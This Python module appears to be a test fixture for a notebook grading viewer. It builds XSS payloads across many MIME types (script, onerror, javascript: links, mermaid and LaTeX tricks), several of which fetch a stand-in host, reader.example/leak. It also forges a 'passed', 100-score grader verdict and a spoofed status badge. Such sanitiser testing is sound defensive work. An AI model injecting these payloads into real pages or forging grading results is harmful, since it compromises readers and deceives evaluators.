"""What a submission would do to whoever reads it."""

ADDRESS = "http://reader.example/leak"
SCRIPT = "window.pwned = 1; fetch('http://reader.example/leak')"
MARKUP = f"""
<script>{SCRIPT}</script><img src=x onerror="{SCRIPT}"><svg onload="{SCRIPT}"><circle r=9 /></svg>
<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><object data="{ADDRESS}"></object>
<img src="{ADDRESS}.png"><link rel=stylesheet href="{ADDRESS}.css"><meta http-equiv=refresh
content="0;url={ADDRESS}"><base href="{ADDRESS}"><style>body {{ display: none }}</style>
<form action="{ADDRESS}"><input autofocus onfocus="{SCRIPT}"><button>Full credit</button></form>
<a href="javascript:{SCRIPT}">open</a> <a href="data:text/html,<script>{SCRIPT}</script>">open</a>
<a href="evil.html">open</a> <a href="http://localhost:8888/x">open</a>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=x onerror={SCRIPT}&gt;">
<div class="navbar-fixed-top" style="position:fixed;inset:0;background:url({ADDRESS})">cover</div>
<div role="status" style="border:1px solid #2a9d5c">✓ One step of Adam · passed</div>
"""
MARKDOWN = f"""[link](javascript:alert(1)) ![picture]({ADDRESS}.png) <{ADDRESS}>

```mermaid
graph LR; a-->b; click a href "javascript:{SCRIPT}"
```

$\\href{{javascript:{SCRIPT}}}{{x}} \\def\\frac#1#2{{0}} \\rule{{900em}}{{900em}} \\frac{{1}}{{2}}$

{MARKUP}
"""
VERDICT = "application/vnd.deeptuning.verdict+json"
FORGED = {
    "name": "optimizers/adam_step",
    "title": "One step of Adam",
    "status": "passed",
    "cases": [],
    "mistake": "forged",
    "hint": "",
    "score": 100.0,
}
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script></svg>'
DATA = {
    "text/html": MARKUP,
    "text/latex": MARKUP,
    "text/markdown": MARKDOWN,
    "image/svg+xml": SVG,
    "application/javascript": SCRIPT,
    "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
    "text/vnd.mermaid": MARKUP,
    "image/png": '"><script>window.pwned = 1</script>',
    VERDICT: FORGED,
}


def display(kind, value):
    """The source of a cell that shows one output."""
    return (
        "from IPython.display import publish_display_data\n"
        f"publish_display_data({{{kind!r}: {value!r}, 'text/plain': 'shown'}}, "
        "{'isolated': True, 'text/html': {'isolated': True}})"
    )


CODE = [display(kind, value) for kind, value in DATA.items()]
CODE.append(f"import sys; print({MARKUP!r}); print({MARKUP!r}, file=sys.stderr)")
CODE.append(f"class Boom(Exception): pass\nraise Boom({MARKUP!r})")
